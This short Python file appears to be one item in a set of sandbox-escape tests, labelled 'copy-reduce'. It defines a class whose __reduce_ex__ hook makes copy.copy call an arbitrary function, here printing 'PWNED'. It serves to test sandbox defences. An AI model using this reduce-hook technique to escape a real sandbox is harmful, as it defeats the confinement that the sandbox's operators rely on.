# attack: copy-reduce
# layer: language
# class: escape
# success: copy builds an object as a class says
import copy
class A:
    def __reduce_ex__(self, protocol):
        return (print, ("PWNED",))
def run():
    return copy.copy(A()) or "PWNED"
